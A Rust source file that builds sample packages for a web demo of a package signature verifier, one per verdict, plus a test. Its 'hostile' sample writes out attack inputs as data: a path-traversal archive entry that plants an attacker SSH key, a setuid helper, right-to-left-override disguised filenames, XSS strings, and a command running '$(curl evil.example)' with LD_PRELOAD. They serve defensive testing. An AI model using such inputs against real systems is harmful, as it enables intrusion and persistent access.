//! The sample packages that the web page shows: one for each verdict, small, and the same on every machine.

use crate::{
    base::{encode, write},
    sample::{Sample, gzip},
};
use pspf_nostd::{
    digest::sha256,
    index,
    json::Json,
    key::SigningKey,
    offsets::length,
    writer::{PackagePlan, SlotPlan},
};

/// One sample.
#[derive(Debug)]
pub struct Showcase {
    /// File name.
    pub file: &'static str,
    /// What a visitor is offered.
    pub title: &'static str,
    /// What was done to it, in one sentence.
    pub description: &'static str,
    /// Whether the page is to trust [`publisher`] for it.
    pub trusted: bool,
    /// State word of the report.
    pub state: &'static str,
    /// The package.
    pub bytes: Vec<u8>,
}

/// The key that signs the samples with a known signer.
///
/// # Panics
/// Never: the seed is fixed.
#[must_use]
pub fn publisher() -> SigningKey {
    SigningKey::from_seed_text("web sample publisher").expect("a seed text gives a key")
}

fn stranger() -> SigningKey {
    SigningKey::from_seed_text("web sample stranger").expect("a seed text gives a key")
}

/// All samples.
#[must_use]
pub fn showcases() -> Vec<Showcase> {
    let good = tidewatch("2.1.0", publisher());
    let mut tampered = good.clone();
    let middle = tampered.slot(1).start + tampered.slot(1).len() / 2;
    tampered.flip(middle);
    tampered.fix_slot_checksum(1);
    let mut unsigned = tidewatch("2.1.0", publisher());
    unsigned.set(index::SIGNATURE, &[0; 64]);
    vec![
        Showcase {
            file: "tidewatch.psp",
            title: "Good",
            description: "Sealed, and signed by a key that is trusted for this sample.",
            trusted: true,
            state: "sealed",
            bytes: good.bytes,
        },
        Showcase {
            file: "tidewatch-unknown-key.psp",
            title: "Unknown key",
            description: "The same application, signed by somebody else.",
            trusted: false,
            state: "sealed",
            bytes: tidewatch("2.1.0", stranger()).bytes,
        },
        Showcase {
            file: "tidewatch-tampered.psp",
            title: "Tampered",
            description: "One bit of the application was flipped, and the unsigned checksum put right.",
            trusted: true,
            state: "broken",
            bytes: tampered.bytes,
        },
        Showcase {
            file: "tidewatch-unsigned.psp",
            title: "Not signed",
            description: "The signature was erased.",
            trusted: true,
            state: "intact",
            bytes: unsigned.bytes,
        },
        Showcase {
            file: "free-\u{202e}gpj.update.psp",
            title: "Hostile paths",
            description: "Validly signed, but its files would be written outside their folder.",
            trusted: false,
            state: "sealed",
            bytes: hostile().bytes,
        },
        Showcase {
            file: "tidewatch-2.0.3.psp",
            title: "Older version",
            description: "Version 2.0.3 by the same signer, to compare with.",
            trusted: true,
            state: "sealed",
            bytes: tidewatch("2.0.3", publisher()).bytes,
        },
    ]
}

/// One member of a slot's archive.
struct Member {
    path: String,
    mode: u32,
    /// Where a symbolic link points.
    link: Option<&'static str>,
    content: Vec<u8>,
}

fn file(path: &str, mode: u32, content: &str) -> Member {
    Member { path: path.to_owned(), mode, link: None, content: content.as_bytes().to_vec() }
}

/// An archive with whatever names: the header is filled in by hand, because writers refuse hostile ones.
fn archive(members: &[Member]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for member in members {
        let mut header = tar::Header::new_ustar();
        let name = &mut header.as_old_mut().name;
        name[..member.path.len()].copy_from_slice(member.path.as_bytes());
        header.set_size(length(&member.content));
        header.set_mode(member.mode);
        header.set_mtime(1_735_689_600);
        header.set_uid(0);
        header.set_gid(0);
        header.set_entry_type(tar::EntryType::Regular);
        if let Some(target) = member.link {
            header.set_entry_type(tar::EntryType::Symlink);
            header.as_old_mut().linkname[..target.len()].copy_from_slice(target.as_bytes());
        }
        if member.path.ends_with('/') {
            header.set_entry_type(tar::EntryType::Directory);
        }
        header.set_cksum();
        builder.append(&header, member.content.as_slice()).expect("memory takes it");
    }
    builder.into_inner().expect("memory takes it")
}

/// A slot, with its plan and stored bytes.
struct Slot {
    plan: SlotPlan,
    stored: Vec<u8>,
}

fn slot(id: &str, target: &str, operations: &str, words: [&str; 2], mode: u16, content: &[u8]) -> Slot {
    let stored = if operations.ends_with("gz") { gzip(content) } else { content.to_vec() };
    let plan = SlotPlan {
        id: id.to_owned(),
        source: id.to_owned(),
        target: target.to_owned(),
        operations: operations.to_owned(),
        purpose: words[0].to_owned(),
        lifecycle: words[1].to_owned(),
        permissions: mode,
        extra: Vec::new(),
        encoded: encode(&stored, content.len()),
    };
    Slot { plan, stored }
}

/// A file that starts as a program for Linux on x86_64 does, and holds nothing else: the samples are to be looked at, not run.
fn stand_in() -> Vec<u8> {
    let mut launcher = vec![0; 64];
    launcher[..7].copy_from_slice(&[0x7f, b'E', b'L', b'F', 2, 1, 1]);
    // Executable, x86_64, version 1; header size 64.
    launcher[16..24].copy_from_slice(&[2, 0, 0x3e, 0, 1, 0, 0, 0]);
    launcher[52] = 64;
    launcher.extend_from_slice(b"Stand-in for the launcher of a sample package: it does not run.\n");
    launcher
}

fn json(text: &str) -> Json {
    Json::parse(text.as_bytes()).expect("a sample's own JSON")
}

fn object(text: &str) -> Vec<(String, Json)> {
    json(text).entries().to_vec()
}

fn sealed(about: &str, slots: &[Slot], execution: &str, extra: &str, key: SigningKey) -> Sample {
    let launcher = stand_in();
    let plan = PackagePlan {
        package: object(about),
        slots: slots.iter().map(|slot| slot.plan.clone()).collect(),
        execution: json(execution),
        build: object(BUILD),
        launcher_tool: "flavor-launcher".to_owned(),
        launcher_version: "0.1.0".to_owned(),
        launcher: encode(&launcher, launcher.len()),
        extra: object(extra),
    };
    let assembly = plan.assemble(&key).expect("a sample is writable");
    let stored: Vec<&[u8]> = slots.iter().map(|slot| slot.stored.as_slice()).collect();
    Sample { bytes: write(&assembly, &launcher, &stored), key }
}

const BUILD: &str = r#"{ "tool_version": "0.1.0", "timestamp": "2025-01-01T00:00:00+00:00", "deterministic": true,
    "platform": { "os": "linux", "arch": "x86_64" } }"#;

const EXECUTION: &str = r#"{ "command": "{workenv}/bin/python3 -m tidewatch",
    "env": { "TIDEWATCH_HOME": "{workenv}/data", "PYTHONDONTWRITEBYTECODE": "1" } }"#;

const EXTRA: &str = r#"{
    "runtime": { "env": { "unset": ["*"], "pass": ["PATH", "HOME", "LANG", "LC_*", "TERM"],
        "map": { "TIDE_API_TOKEN": "TIDEWATCH_TOKEN" }, "set": { "PYTHONNOUSERSITE": "1" } } },
    "workenv": { "directories": [{ "path": "{workenv}/data", "mode": "0700" }],
        "env": { "TMPDIR": "{workenv}/tmp" } } }"#;

/// A terminal program that shows tides; nothing in it runs.
fn tidewatch(version: &str, key: SigningKey) -> Sample {
    let newer = version != "2.0.3";
    let mut app = vec![
        file("tidewatch/", 0o755, ""),
        file(
            "tidewatch/__init__.py",
            0o644,
            &format!("\"\"\"Tides in the terminal.\"\"\"\n\n__version__ = \"{version}\"\n"),
        ),
        file("tidewatch/__main__.py", 0o644, MAIN),
        file("tidewatch/almanac.py", 0o644, if newer { ALMANAC } else { ALMANAC_OLD }),
        file(
            "tidewatch/chart.py",
            0o644,
            "BLOCKS = \" .:-=+*#\"\n\n\ndef draw(levels, width):\n    return \"\".join(BLOCKS[round(level * 7)] for level in levels)[:width]\n",
        ),
        file("tidewatch/data/", 0o755, ""),
        file("tidewatch/data/stations.json", 0o644, STATIONS),
        file("tidewatch/data/harmonics.bin", 0o644, &"\u{1}\u{2}\u{3}\u{7f}tide\0\0\u{10}".repeat(40)),
    ];
    if newer {
        app.push(file("tidewatch/moon.py", 0o644, "SYNODIC_MONTH = 29.530588853  # days\n\n\ndef phase(day):\n    return (day % SYNODIC_MONTH) / SYNODIC_MONTH\n"));
    } else {
        app.push(file(
            "tidewatch/legacy.py",
            0o644,
            "# Kept for 1.x configuration files.\nOLD_KEYS = (\"port\", \"harbour\")\n",
        ));
    }
    let mut runtime = vec![
        file("bin/", 0o755, ""),
        file("bin/python3.13", 0o755, "A stand-in for the interpreter.\n"),
        Member { path: "bin/python3".to_owned(), mode: 0o777, link: Some("python3.13"), content: Vec::new() },
        file("lib/", 0o755, ""),
        file("lib/python3.13/", 0o755, ""),
    ];
    for module in
        ["argparse", "asyncio", "collections", "csv", "datetime", "json", "logging", "math", "pathlib", "zoneinfo"]
    {
        let text = format!("\"\"\"A stand-in for the module {module}.\"\"\"\n");
        runtime.push(file(&format!("lib/python3.13/{module}.py"), 0o644, &text));
    }
    let config = "[tidewatch]\nstation = brest\nunits = metre\nrefresh = 600\n";
    let slots = [
        slot("python", "{workenv}", "tar.gz", ["runtime", "cache"], 0o755, &archive(&runtime)),
        slot("app", "{workenv}/lib", "tar.gz", ["code", "runtime"], 0o755, &archive(&app)),
        slot("config", "{workenv}/tidewatch.ini", "none", ["config", "init"], 0o600, config.as_bytes()),
        slot(
            "_attestation",
            "{workenv}/_attestation",
            "none",
            ["data", "attestation"],
            0o644,
            attestation(version, &key).as_bytes(),
        ),
    ];
    let about = format!(
        r#"{{ "name": "tidewatch", "version": "{version}", "description": "Tides in the terminal, without a network" }}"#
    );
    sealed(&about, &slots, EXECUTION, EXTRA, key)
}

/// A package whose archive leaves its folder, and whose texts try to be something else.
fn hostile() -> Sample {
    let members = [
        file("photos/", 0o755, ""),
        file("photos/readme.txt", 0o644, "<img src=x onerror=alert(1)>\nOpen the update to see the photos.\n"),
        file("photos/beach\u{202e}gpj.sh", 0o755, "#!/bin/sh\necho not a photo\n"),
        Member { path: "photos/logs".to_owned(), mode: 0o777, link: Some("/var/log"), content: Vec::new() },
        file("bin/helper", 0o4755, "#!/bin/sh\nid\n"),
        file("../../../.ssh/authorized_keys", 0o600, "ssh-ed25519 AAAA attacker\n"),
    ];
    let slots = [slot(
        "photos<script>alert(1)</script>",
        "{workenv}/photos",
        "tar.gz",
        ["data", "runtime"],
        0o755,
        &archive(&members),
    )];
    sealed(
        r#"{ "name": "<img src=x onerror=alert(1)>holiday-\u202egpj.exe", "version": "1.0\u0000\u001b[31m" }"#,
        &slots,
        r#"{ "command": "{workenv}/bin/helper \"$(curl evil.example)\"", "env": { "LD_PRELOAD": "{workenv}/bin/helper" } }"#,
        "{}",
        stranger(),
    )
}

/// What the attestation slot holds: provenance and a bill of materials (format.md §8).
fn attestation(version: &str, key: &SigningKey) -> String {
    let newer = version != "2.0.3";
    let library = |name: &str, version: &str, licence: &str| {
        let digest = sha256(format!("{name} {version}").as_bytes());
        format!(
            concat!(
                r#"{{"hashes":[{{"alg":"SHA-256","content":"{}"}}],"licenses":[{{"expression":"{}"}}],"name":"{}","#,
                r#""purl":"pkg:pypi/{}@{}","type":"library","version":"{}"}}"#
            ),
            digest, licence, name, name, version, version
        )
    };
    let mut libraries = vec![
        library("click", if newer { "8.1.8" } else { "8.1.7" }, "BSD-3-Clause"),
        library("httpx", "0.28.1", "BSD-3-Clause"),
        library("markdown-it-py", "3.0.0", "MIT"),
        library("numpy", "2.2.1", "BSD-3-Clause"),
        library("pygments", "2.19.1", "BSD-2-Clause"),
        library("rich", "13.9.4", "MIT"),
        library("skyfield", "1.49", "MIT"),
    ];
    if newer {
        libraries.push(library("tzdata", "2025.1", "Apache-2.0"));
        libraries.push(library("certifi", "2025.1.31", "MPL-2.0"));
    }
    let launcher = sha256(&stand_in());
    format!(
        concat!(
            r#"{{"provenance":{{"build_timestamp":"2025-01-01T00:00:00+00:00","builder":"flavor","builder_version":"0.1.0","#,
            r#""launcher":{{"hash":"sha256:{}","language":"rust","version":"0.1.0"}},"platform":{{"arch":"amd64","os":"linux"}},"#,
            r#""python":{{"implementation":"cpython","version":"3.13.1"}},"reproducible":true,"signing_attestation_key_fp":"sha256:{}","#,
            r#""source_date_epoch":1735689600}},"sbom":{{"bomFormat":"CycloneDX","components":[{},"#,
            r#"{{"description":"CPython runtime interpreter","name":"python","type":"framework","version":"3.13.1"}},"#,
            r#"{{"description":"PSPF launcher","hashes":[{{"alg":"SHA-256","content":"{}"}}],"name":"flavor-launcher","type":"application","version":"0.1.0"}}],"#,
            r#""metadata":{{"timestamp":"2025-01-01T00:00:00+00:00"}},"specVersion":"1.6","version":1}}}}"#
        ),
        launcher,
        key.public_key().fingerprint(),
        libraries.join(","),
        launcher
    )
}

const MAIN: &str = "\
import argparse

from tidewatch import almanac, chart


def main():
    parser = argparse.ArgumentParser(prog=\"tidewatch\")
    parser.add_argument(\"station\", nargs=\"?\", default=\"brest\")
    parser.add_argument(\"--days\", type=int, default=1)
    arguments = parser.parse_args()
    for day in almanac.days(arguments.station, arguments.days):
        print(day.date, chart.draw(day.levels, 48))


if __name__ == \"__main__\":
    main()
";

const ALMANAC: &str = "\
import json
import math
from pathlib import Path

STATIONS = json.loads((Path(__file__).parent / \"data/stations.json\").read_text())


def height(station, hour):
    parts = STATIONS[station][\"constituents\"]
    return sum(a * math.cos(math.radians(speed * hour + phase)) for a, speed, phase in parts)
";

const ALMANAC_OLD: &str = "\
import json
import math
import os

STATIONS = json.load(open(os.path.join(os.path.dirname(__file__), \"data/stations.json\")))


def height(station, hour):
    parts = STATIONS[station][\"constituents\"]
    return sum(a * math.cos(math.radians(speed * hour + phase)) for a, speed, phase in parts)
";

const STATIONS: &str = r#"{
  "brest": { "latitude": 48.383, "longitude": -4.495, "constituents": [[2.05, 28.984, 139], [0.75, 30.0, 178]] },
  "halifax": { "latitude": 44.667, "longitude": -63.583, "constituents": [[0.63, 28.984, 225], [0.14, 30.0, 256]] },
  "valparaiso": { "latitude": -33.027, "longitude": -71.626, "constituents": [[0.43, 28.984, 279], [0.14, 30.0, 302]] }
}
"#;

#[cfg(test)]
mod tests {
    use super::{publisher, showcases};
    use pspf_nostd::verify::{Scope, TrustedKeys, verify_slice};

    #[test]
    fn every_sample_has_the_state_that_it_shows() {
        for sample in showcases() {
            let trusted = TrustedKeys { pinned: vec![publisher().public_key().fingerprint()], store: Vec::new() };
            let report = verify_slice(&sample.bytes, Scope::Content, trusted).report;
            let state = serde_json::to_value(report.state).unwrap();
            assert_eq!(state, sample.state, "{}: {:#?}", sample.file, report.findings);
        }
    }
}
